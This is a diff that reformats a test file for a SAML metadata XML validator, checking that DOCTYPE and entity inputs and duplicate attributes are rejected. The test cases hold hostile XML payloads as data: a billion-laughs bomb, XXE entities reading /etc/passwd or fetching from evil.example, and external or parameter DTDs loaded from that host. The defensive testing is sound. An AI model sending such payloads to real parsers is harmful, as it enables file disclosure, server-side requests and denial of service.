@@ -13,16 +13,32 @@ const body = metadata({ declaration: false });
 
 describe('XML: DOCTYPE and entities are rejected before any parser runs', () => {
   it.each([
-    ['DOCTYPE with internal entity used in entityID', `${XML_DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY x "http://www.okta.com/exkEVIL">]>${body.replace(ENTITY_ID, '&x;')}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
+    [
+      'DOCTYPE with internal entity used in entityID',
+      `${XML_DECL}<!DOCTYPE md:EntityDescriptor [<!ENTITY x "http://www.okta.com/exkEVIL">]>${body.replace(ENTITY_ID, '&x;')}`,
+      ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION'],
+    ],
     [
       'billion laughs',
       `${XML_DECL}<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>${body.replace(ENTITY_ID, '&lol9;')}`,
       ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION'],
     ],
-    ['XXE: SYSTEM file entity', `${XML_DECL}<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${body.replace(ENTITY_ID, '&xxe;')}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
-    ['XXE: SYSTEM http entity', `${XML_DECL}<!DOCTYPE r [<!ENTITY xxe SYSTEM "https://evil.example/x">]>${body.replace(ENTITY_ID, '&xxe;')}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
+    [
+      'XXE: SYSTEM file entity',
+      `${XML_DECL}<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${body.replace(ENTITY_ID, '&xxe;')}`,
+      ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION'],
+    ],
+    [
+      'XXE: SYSTEM http entity',
+      `${XML_DECL}<!DOCTYPE r [<!ENTITY xxe SYSTEM "https://evil.example/x">]>${body.replace(ENTITY_ID, '&xxe;')}`,
+      ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION'],
+    ],
     ['external DTD', `${XML_DECL}<!DOCTYPE r SYSTEM "https://evil.example/evil.dtd">${body}`, ['XML_DOCTYPE']],
-    ['parameter entities', `${XML_DECL}<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>${body}`, ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION']],
+    [
+      'parameter entities',
+      `${XML_DECL}<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>${body}`,
+      ['XML_DOCTYPE', 'XML_ENTITY_DECLARATION'],
+    ],
     ['entity declaration without DOCTYPE', `${XML_DECL}<!ENTITY x "y">${body}`, ['XML_ENTITY_DECLARATION']],
     ['DOCTYPE after the root', `${XML_DECL}${body}<!DOCTYPE r>`, ['XML_DOCTYPE']],
   ])('%s', async (_name, xml, codes) => {
@@ -101,14 +117,21 @@ describe('XML: structure', () => {
 
   it('duplicate IDPSSODescriptor → MD_IDP_DESCRIPTOR_MULTIPLE', async () => {
     const idp = /<md:IDPSSODescriptor[\s\S]*<\/md:IDPSSODescriptor>/.exec(body)?.[0] ?? '';
-    const r = await validate(metadata({ rootExtra: idp.replace(SSO_URL, 'https://evil.example/sso').replace(SSO_URL, 'https://evil.example/sso') }));
+    const r = await validate(
+      metadata({ rootExtra: idp.replace(SSO_URL, 'https://evil.example/sso').replace(SSO_URL, 'https://evil.example/sso') }),
+    );
     expect(r.code).toBe(1);
     expect(r.codes).toContain('MD_IDP_DESCRIPTOR_MULTIPLE');
   });
 
   it.each([
     ['entityID twice', metadata().replace(`entityID="${ENTITY_ID}"`, `entityID="${ENTITY_ID}" entityID="http://www.okta.com/exkEVIL"`)],
-    ['Location twice', metadata({ sso: `<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${SSO_URL}" Location="https://evil.example/"/>` })],
+    [
+      'Location twice',
+      metadata({
+        sso: `<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="${SSO_URL}" Location="https://evil.example/"/>`,
+      }),
+    ],
   ])('duplicate attribute (%s) → XML_DUPLICATE_ATTRIBUTE', async (_n, xml) => {
     const r = await validate(xml);
     expect(r.code).toBe(1);
@@ -116,4 +139,3 @@ describe('XML: structure', () => {
     expect(r.stdout).not.toContain('evil');
   });
 });
-
